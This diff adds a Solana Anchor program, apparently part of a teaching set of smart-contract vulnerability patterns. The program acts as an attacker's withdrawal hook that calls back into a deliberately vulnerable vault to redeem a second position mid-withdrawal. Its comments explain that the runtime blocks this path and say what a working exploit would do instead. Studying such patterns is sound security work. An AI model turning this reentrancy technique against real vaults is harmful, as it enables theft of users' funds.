@@ -0,0 +1,74 @@
+use anchor_lang::prelude::*;
+use anchor_lang::solana_program::{
+    hash::hash,
+    instruction::{AccountMeta, Instruction},
+    program::invoke,
+};
+use demo_log::{demo_log, Mode};
+
+declare_id!("Mye11NskeZtTa5ZWxTRom9RyX5VqyQc9RpinUGV3fMA");
+
+/// # Re-entrant Withdrawal Hook (Pattern 32)
+///
+/// The hook an attacker names for a withdrawal. It is handed the vault
+/// program and a second position as extra accounts, the way Token-2022
+/// hands a transfer hook the extra accounts it asks for, and tries to
+/// withdraw that position from inside the hook.
+///
+/// The runtime stops it: the vault is already on the CPI stack, so
+/// vault → hook → vault fails with `ReentrancyNotAllowed`. Only a program
+/// calling itself directly may enter it again, which is why the exploit
+/// names the vault itself as the hook.
+#[program]
+pub mod reentrant_hook {
+    use super::*;
+
+    pub fn on_withdraw(ctx: Context<OnWithdraw>, shares: u64) -> Result<()> {
+        // ATTACKER: redeem a second position while the first is mid-withdrawal
+        let mut data = hash(b"global:withdraw_vulnerable").to_bytes()[..8].to_vec();
+        data.extend_from_slice(&shares.to_le_bytes());
+        data.extend_from_slice(&0u32.to_le_bytes()); // no hook data
+
+        let ix = Instruction {
+            program_id: ctx.accounts.vault_program.key(),
+            accounts: vec![
+                AccountMeta::new(ctx.accounts.vault.key(), false),
+                AccountMeta::new(ctx.accounts.position.key(), false),
+                AccountMeta::new(ctx.accounts.owner.key(), true),
+                AccountMeta::new_readonly(ctx.accounts.vault_program.key(), false),
+            ],
+            data,
+        };
+        invoke(
+            &ix,
+            &[
+                ctx.accounts.vault.to_account_info(),
+                ctx.accounts.position.to_account_info(),
+                ctx.accounts.owner.to_account_info(),
+                ctx.accounts.vault_program.to_account_info(),
+            ],
+        )?;
+
+        demo_log!(
+            Mode::Attacker,
+            "hook",
+            actor = ctx.accounts.owner.key(),
+            shares = shares
+        );
+        Ok(())
+    }
+}
+
+#[derive(Accounts)]
+pub struct OnWithdraw<'info> {
+    /// CHECK: The vault program, called back into.
+    pub vault_program: UncheckedAccount<'info>,
+    /// CHECK: Passed through to the vault, which checks it.
+    #[account(mut)]
+    pub vault: UncheckedAccount<'info>,
+    /// CHECK: Passed through to the vault, which checks it.
+    #[account(mut)]
+    pub position: UncheckedAccount<'info>,
+    #[account(mut)]
+    pub owner: Signer<'info>,
+}